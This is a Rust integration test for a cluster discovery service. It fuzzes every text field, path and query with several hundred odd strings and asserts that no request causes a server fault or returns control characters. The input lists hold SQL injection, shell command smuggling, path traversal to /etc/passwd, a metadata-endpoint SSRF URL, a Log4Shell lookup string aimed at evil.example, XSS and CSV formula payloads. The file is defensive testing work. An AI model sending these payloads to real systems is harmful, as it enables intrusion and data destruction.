//! Sends several hundred odd texts, in every field of a request that holds a name, a reason or an
//! id. Everything else in a request is valid and rightly signed. No text may cause a fault of the
//! service, and no answer may contain a control character.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use discovery_types::access::{ClientKind, JWT_BEARER};
use discovery_types::admin::{Admin, AdminChain, AdminOperation};
use discovery_types::api::{EtcdTokenRequest, NackReason, NackRequest, TroubleRequest};
use discovery_types::digest::{Digest, MemberId, Nonce};
use discovery_types::etcd_token::{EtcdProtocol, EtcdToken};
use discovery_types::grant::Grant;
use discovery_types::jws::{Jws, JwsType};
use discovery_types::key::SigningKey;
use discovery_types::order::{Order, OrderedChange};
use discovery_types::record::{Endorsement, SignedRecord};
use discovery_types::redeem::Redeem;
use discovery_types::role::Role;
use discovery_types::statement::Statement;
use secrecy::ExposeSecret;
use serde_json::{Value, json};

use super::agent::{TestAgent, form};
use super::malformed::requests::url_encoded;
use super::malformed::{CallerKind, answer_to, connect};
use super::support::{TestInstallation, send_with};
use crate::server::RunningService;

/// Texts that a database or a shell might run, such as statements and conditions of SQL.
const INJECTIONS: [&str; 30] = [
    "'",
    "''",
    "\"",
    "\\",
    "\\'",
    "`",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "') OR ('1'='1",
    "1; DROP TABLE clusters",
    "'; DROP TABLE clusters; --",
    "'; DELETE FROM grants; --",
    "'; UPDATE clusters SET phase = 'abandoned'; --",
    "' UNION SELECT jws FROM grants --",
    "' || pg_sleep(10) || '",
    "'; SELECT pg_sleep(10); --",
    "$1",
    "$$x$$",
    "%",
    "_",
    "E'\\x27'",
    "/**/",
    "--",
    "; ls",
    "$(id)",
    "`id`",
    "| cat /etc/passwd",
    "&& true",
    "*",
];

/// Paths and URLs that lead to another file or host.
const PATHS: [&str; 20] = [
    "..",
    "../..",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "..%c0%af",
    "/etc/passwd",
    "//evil.example/x",
    "file:///etc/passwd",
    "http://169.254.169.254/latest",
    "https://user@evil.example",
    "https://evil.example#@good.example",
    "javascript:alert(1)",
    "C:\\x",
    "\\\\host\\share",
    "./x",
    "x/",
    "x/../y",
    "~root",
];

/// Texts that templates, loggers, browsers or number parsers might interpret as something else than
/// text.
const INTERPRETED: [&str; 30] = [
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
    "{}",
    "{0}",
    "%s%s%n",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "<!--",
    "]]>",
    "null",
    "undefined",
    "true",
    "NaN",
    "Infinity",
    "0",
    "-1",
    "+1",
    "1e9",
    "0x10",
    "00",
    "9223372036854775808",
    "18446744073709551616",
    "1,000",
    "2038-01-19T03:14:08Z",
    "level=error msg=forged",
    "{\"level\":\"error\"}",
    "a=b&c=d",
    "a,b;c",
    "=cmd|' /C calc'!A0",
];

/// Names that look like another name, or that a comparison might take for another name.
const LOOKALIKES: [&str; 30] = [
    "dеmo",
    "dem\u{043e}",
    "ｄｅｍｏ",
    "𝐝𝐞𝐦𝐨",
    "DEMO",
    "Demo",
    "demo ",
    " demo",
    "demo.",
    ".demo",
    "-demo",
    "demo-",
    "de--mo",
    "de_mo",
    "de mo",
    "démo",
    "de\u{301}mo",
    "dẹmo",
    "ı",
    "İ",
    "ß",
    "ﬁ",
    "Å",
    "\u{212b}",
    "K",
    "١٢٣",
    "一",
    "🦀",
    "👩‍👩‍👧",
    "xn--dmo-bma",
];

/// Characters that are invisible, or change how other ones are shown.
const INVISIBLE: [char; 40] = [
    '\u{a0}',
    '\u{ad}',
    '\u{300}',
    '\u{34f}',
    '\u{61c}',
    '\u{115f}',
    '\u{1680}',
    '\u{180e}',
    '\u{2000}',
    '\u{2003}',
    '\u{2007}',
    '\u{2009}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{202f}',
    '\u{205f}',
    '\u{2060}',
    '\u{2061}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{3000}',
    '\u{3164}',
    '\u{fe0f}',
    '\u{feff}',
    '\u{fff9}',
    '\u{fffd}',
    '\u{ffff}',
    '\u{e0041}',
];

/// Longest path that is sent.
const MAX_PATH: usize = 4_000;

/// Returns the texts, each once.
fn odd_texts() -> Vec<String> {
    let fixed = [&INJECTIONS[..], &PATHS, &INTERPRETED, &LOOKALIKES].concat();
    let mut texts: Vec<String> = fixed.iter().map(|text| (*text).to_owned()).collect();
    texts.extend(fixed.iter().map(|text| format!("demo{text}")));
    // The control characters of ASCII and of ISO 8859-1.
    let controls = (0..0x20_u8).chain(0x7f..0xa0).map(char::from);
    for odd in controls.chain(INVISIBLE) {
        texts.extend([odd.to_string(), format!("demo{odd}"), format!("de{odd}mo")]);
    }
    for ansi in ["[2J", "[31m", "]0;title\u{7}", "[1A[2K", "c", "P$q\u{1b}\\"] {
        texts.push(format!("demo\u{1b}{ansi}"));
    }
    for line in ["\r\n", "\n", "\r", "\u{85}"] {
        texts.push(format!("demo{line}2026-01-01T00:00:00Z ERROR forged"));
        texts.push(format!("demo{line}{line}set-cookie: a=b"));
    }
    let long = [63, 64, 255, 256, 300, 301, 500, 501, 4_096, 20_000];
    texts.extend(long.iter().flat_map(|length| ["x", "ü"].map(|text| text.repeat(*length))));
    texts.push(String::new());
    let texts: BTreeSet<String> = texts.into_iter().collect();
    assert!(texts.len() >= 500, "{}", texts.len());
    texts.into_iter().collect()
}

/// Adds the JSON pointers of all strings in `value`.
fn add_strings(value: &Value, pointer: &str, found: &mut Vec<String>) {
    match value {
        Value::String(_) => found.push(pointer.to_owned()),
        Value::Array(items) => {
            for (at, item) in items.iter().enumerate() {
                add_strings(item, &format!("{pointer}/{at}"), found);
            }
        }
        Value::Object(fields) => {
            for (name, field) in fields {
                add_strings(field, &format!("{pointer}/{name}"), found);
            }
        }
        _ => {}
    }
}

/// Makes a request's path and body from its content.
type RequestWriter<'a> = Box<dyn Fn(&Value) -> (String, String) + 'a>;

/// A request with texts in it.
struct OddRequest<'a> {
    /// Method and a short name, for messages.
    name: &'static str,
    media_type: &'static str,
    /// The valid content. Each of its strings is replaced in turn.
    content: Value,
    make: RequestWriter<'a>,
}

impl<'a> OddRequest<'a> {
    /// A request whose body is the content.
    fn json(name: &'static str, path: String, content: Value) -> Self {
        let make = move |content: &Value| (path.clone(), content.to_string());
        OddRequest { name, media_type: "application/json", content, make: Box::new(make) }
    }

    /// A request whose body is the content, signed by `key`.
    fn signed(
        name: &'static str,
        path: String,
        (typ, key): (JwsType, &'a SigningKey),
        content: Value,
    ) -> Self {
        let make = move |content: &Value| {
            let jws = Jws::sign(typ, key, content);
            (path.clone(), json!({ "jws": jws.as_str() }).to_string())
        };
        OddRequest { name, media_type: "application/json", content, make: Box::new(make) }
    }

    /// A request without a body, whose path has an odd text in place of `{odd}`.
    fn path(name: &'static str, pattern: String) -> Self {
        let make = move |content: &Value| {
            let text = url_encoded(content.as_str().unwrap_or_default());
            (pattern.replace("{odd}", &text), String::new())
        };
        OddRequest {
            name,
            media_type: "application/json",
            content: json!("x"),
            make: Box::new(make),
        }
    }

    /// A request whose body is a form with the fields of the content.
    fn form(name: &'static str, path: String, content: Value) -> Self {
        let make = move |content: &Value| {
            let fields = content.as_object().into_iter().flatten();
            let text = |value: &Value| url_encoded(value.as_str().unwrap_or_default());
            let pairs: Vec<_> =
                fields.map(|(name, value)| format!("{name}={}", text(value))).collect();
            (path.clone(), pairs.join("&"))
        };
        let media_type = "application/x-www-form-urlencoded";
        OddRequest { name, media_type, content, make: Box::new(make) }
    }
}

fn to_value(content: &impl serde::Serialize) -> Value {
    serde_json::to_value(content).unwrap()
}

/// Panics if a string in a JSON text has control characters. Only PEM texts may have them, as line
/// breaks. Programs that show a text to a person replace further characters
/// ([`discovery_types::text::printable`]).
fn check_shown(body: &str, what: &str) {
    let Ok(value) = serde_json::from_str::<Value>(body) else { return };
    let mut found = Vec::new();
    add_strings(&value, "", &mut found);
    for pointer in found {
        let text = value.pointer(&pointer).and_then(Value::as_str).unwrap_or_default();
        let is_pem = text.starts_with("-----BEGIN ");
        assert!(is_pem || !text.contains(char::is_control), "{what}: {pointer} is {text:?}");
    }
}

/// Requests of the owner that have a body.
fn bodies_of_owner<'a>(
    world: &'a TestInstallation,
    statement: &Statement,
    grant: &Grant,
) -> Vec<OddRequest<'a>> {
    let (owner, id) = (&*world.owner, statement.cluster);
    let cluster = format!("/v1/clusters/{id}");
    let key = *SigningKey::generate().public();
    let added = Admin { key, name: "audrey".parse().unwrap(), roles: vec![Role::Auditor] };
    let element = AdminChain::root(owner.public()).sign_next(owner, AdminOperation::Add(added));
    let order = Order {
        version: 1,
        id: Nonce::random(),
        cluster: id,
        statement: statement.sign(owner).hash(),
        change: OrderedChange::Remove { member: MemberId::new(7) },
        planned_at: None,
        issued_at: grant.issued_at,
        expires_at: grant.issued_at + 900,
        reason: "moved".into(),
    };
    let mut next = statement.clone();
    (next.seq, next.previous) = (1, Some(statement.sign(owner).hash()));
    let mut etcd_request = etcd_token_request(&EtcdToken::generate());
    etcd_request.cidrs = vec!["10.0.0.0/8".parse().unwrap()];
    let draft = json!({ "name": "draft", "size": 3 });
    let reason = json!({ "reason": "no longer wanted" });
    let access = json!({ "grant_type": JWT_BEARER, "assertion": "e30.e30.e30" });
    let signed = |name, path: &str, typ, content| {
        OddRequest::signed(name, path.to_owned(), (typ, owner), content)
    };
    let element = element.claims_unverified(JwsType::Admin).unwrap();
    let statement_path = format!("{cluster}/statement");
    vec![
        OddRequest::json("POST drafts", "/v1/drafts".into(), draft),
        OddRequest::json("PUT etcd-tokens", "/v1/etcd-tokens".into(), to_value(&etcd_request)),
        OddRequest::json("POST abandon", format!("{cluster}/abandon"), reason),
        OddRequest::form("POST token", "/v1/token".into(), access),
        signed("PUT statement", &statement_path, JwsType::Statement, to_value(&next)),
        signed("PUT grants", "/v1/grants", JwsType::Grant, to_value(grant)),
        signed("PUT admins", "/v1/admins", JwsType::Admin, element),
        signed("PUT orders", "/v1/orders", JwsType::Order, to_value(&order)),
    ]
}

/// Requests of the owner, or of an etcd, that have texts in their paths and queries.
fn paths(cluster: uuid::Uuid, etcd_token: &EtcdToken) -> Vec<OddRequest<'static>> {
    let v2 = format!("/v2/{}", etcd_token.expose().expose_secret());
    let own = format!("/v1/clusters/{cluster}");
    let value = json!({ "value": "n0=http://10.0.0.1:2380" });
    let mut requests = vec![OddRequest::form("PUT v2 member", format!("{v2}/1"), value)];
    let patterns = [
        ("GET clusters by name", "/v1/clusters?name={odd}".to_owned()),
        ("GET clusters by state", "/v1/clusters?state={odd}".to_owned()),
        ("GET clusters after", "/v1/clusters?after={odd}".to_owned()),
        ("GET grants after", "/v1/grants?after={odd}".to_owned()),
        ("GET etcd-tokens after", "/v1/etcd-tokens?after={odd}".to_owned()),
        ("GET events", "/v1/events?stream={odd}".to_owned()),
        ("GET events after", format!("/v1/events?stream={cluster}&after={{odd}}")),
        ("GET cluster", "/v1/clusters/{odd}".to_owned()),
        ("GET intent", format!("{own}/intents/{{odd}}")),
        ("GET member", format!("{own}/members/{{odd}}")),
        ("GET grant", "/v1/grants/{odd}".to_owned()),
        ("GET etcd-token", "/v1/etcd-tokens/{odd}".to_owned()),
        ("POST forget", "/v1/processes/{odd}/forget".to_owned()),
        ("GET v2", "/v2/{odd}".to_owned()),
        ("GET v2 key", format!("{v2}/{{odd}}")),
        ("GET", "/{odd}".to_owned()),
    ];
    requests.extend(patterns.map(|(name, pattern)| OddRequest::path(name, pattern)));
    requests
}

/// Requests of an agent that has a seat.
fn requests_of_agent<'a>(agent: &'a TestAgent, h: Digest, epoch: u64) -> Vec<OddRequest<'a>> {
    let cluster = format!("/v1/clusters/{}", agent.record.cluster);
    let detail = String::from("x");
    let nack = NackRequest {
        session: agent.session(),
        epoch,
        h,
        reason: NackReason::ClockSkew,
        detail: detail.clone(),
    };
    let trouble = TroubleRequest { session: agent.session(), h, detail };
    let redeem = |signed: SignedRecord| Redeem {
        service: agent.service,
        cluster: agent.record.cluster,
        statement: agent.statement,
        signed,
        boot: agent.boot,
        nonce: agent.nonce,
        highest_epoch: agent.highest_epoch,
        identity: None,
    };
    let make_record = move |record: &Value| {
        let record = Jws::sign(JwsType::Record, &agent.key, record);
        let (cluster, grant) = (agent.record.cluster, agent.record.grant);
        let endorsement = Endorsement { cluster, grant, record: record.hash() };
        let endorsement = Jws::sign(JwsType::Endorsement, &agent.token, &endorsement);
        let jws = redeem(SignedRecord { record, endorsement }).sign(&agent.key);
        ("/v1/redeem".to_owned(), json!({ "jws": jws.as_str() }).to_string())
    };
    let envelope = redeem(agent.record.sign(&agent.key, &agent.token));
    vec![
        OddRequest::json("POST nack", format!("{cluster}/nack"), to_value(&nack)),
        OddRequest::json("POST trouble", format!("{cluster}/trouble"), to_value(&trouble)),
        OddRequest::signed(
            "POST redeem",
            "/v1/redeem".into(),
            (JwsType::Redeem, &agent.key),
            to_value(&envelope),
        ),
        OddRequest {
            name: "POST record",
            media_type: "application/json",
            content: to_value(&agent.record),
            make: Box::new(make_record),
        },
    ]
}

/// Makes a request that stores an etcd token.
fn etcd_token_request(token: &EtcdToken) -> EtcdTokenRequest {
    EtcdTokenRequest {
        id: token.id(),
        secret_hash: token.secret_hash(),
        name: "stock".parse().unwrap(),
        protocol: EtcdProtocol::V2,
        size: 3,
        lifetime_seconds: 3_600,
        cidrs: Vec::new(),
    }
}

/// Sends each request with each text in each of its fields. Returns the numbers of fields and of
/// requests.
async fn send_texts(
    parties: (&TestInstallation, &RunningService, &CallerKind),
    requests: Vec<OddRequest<'_>>,
    texts: &[String],
) -> (usize, usize) {
    let (mut fields, mut sent) = (0, 0);
    let (world, service, caller) = parties;
    let mut connection = connect(world, service, caller).await;
    let authorization = caller.authorization.as_deref().unwrap_or_default();
    for OddRequest { name, media_type, content, make } in requests {
        let method = name.split(' ').next().unwrap_or_default();
        let mut pointers = Vec::new();
        add_strings(&content, "", &mut pointers);
        for pointer in pointers {
            fields += 1;
            for text in texts {
                let mut changed = content.clone();
                *changed.pointer_mut(&pointer).unwrap() = json!(text);
                let (path, body) = make(&changed);
                // A connection with longer headers is closed before anybody reads them.
                if path.len() > MAX_PATH {
                    continue;
                }
                let request = format!(
                    "{method} {path} HTTP/1.1\r\nhost: x\r\nauthorization: {authorization}\r\n\
                     content-type: {media_type}\r\ncontent-length: {}\r\n\r\n{body}",
                    body.len()
                );
                let answer = answer_to(parties, &mut connection, request.as_bytes()).await;
                let what = format!("{name} {pointer} {text:?}");
                assert!(answer.status < 500, "{what}: {} {}", answer.status, answer.body);
                check_shown(&answer.body, &what);
                sent += 1;
            }
        }
    }
    (fields, sent)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn odd_texts_in_every_field_cause_no_fault_and_are_shown_without_control_characters() {
    let world = TestInstallation::new().await;
    let mut args = world.args("ledger");
    (args.limits.rate, args.limits.burst) = (1_000_000, 1_000_000);
    // The agents don't poll meanwhile, so long leases keep their seats. Polls end at once.
    let hour = Duration::from_secs(3_600);
    (args.times.lease, args.times.prepare) = (hour, hour);
    args.times.poll = Duration::from_millis(5);
    let service = crate::server::start(args).await.unwrap();
    let admin = world.owner(&service);
    let statement = world.cluster(&admin, "demo", 1).await;
    let (token, grant) = world.grant(&admin, &statement);
    admin.put_grant(&grant.sign(&world.owner)).await.unwrap();
    let mut agent = [TestAgent::new(&world, &service, &statement, &token, 1)];
    let seen = form(&mut agent).await;
    let h = agent[0].document(&seen).hash();
    let etcd_token = EtcdToken::generate();
    admin.put_etcd_token(&etcd_token_request(&etcd_token)).await.unwrap();

    let caller = |key: &Arc<SigningKey>, kind| {
        let token = service.app().issue_access_token(key.public(), kind).access_token;
        CallerKind { key: Some(key.clone()), authorization: Some(format!("Bearer {token}")) }
    };
    let owner = caller(&world.owner, ClientKind::Admin);
    let member = caller(&agent[0].key, ClientKind::Agent(statement.cluster));
    let texts = odd_texts();
    let mut requests = bodies_of_owner(&world, &statement, &grant);
    requests.extend(paths(statement.cluster, &etcd_token));
    let of_owner = send_texts((&world, &service, &owner), requests, &texts).await;
    let requests = requests_of_agent(&agent[0], h, seen.epoch);
    let of_agent = send_texts((&world, &service, &member), requests, &texts).await;
    println!("{} texts; fields and requests: {of_owner:?}, {of_agent:?}", texts.len());

    let cluster = format!("/v1/clusters/{}", statement.cluster);
    let shown = [
        "/v1/clusters".to_owned(),
        cluster.clone(),
        format!("{cluster}/explain"),
        "/v1/admins".to_owned(),
        "/v1/grants".to_owned(),
        "/v1/etcd-tokens".to_owned(),
        format!("/v1/etcd-tokens/{}", etcd_token.id()),
        format!("/v1/events?stream={}", statement.cluster),
        format!("/v1/events?stream={}", uuid::Uuid::nil()),
    ];
    let authorization = owner.authorization.as_deref().unwrap_or_default();
    for path in shown {
        let headers = [("authorization", authorization)];
        let key = Some(&*world.owner);
        let (status, body) =
            send_with(&world, &service, key, "GET", &path, &headers, String::new()).await;
        assert_eq!(status, 200, "{path}: {body}");
        check_shown(&body, &path);
    }
    service.stop().await;
}
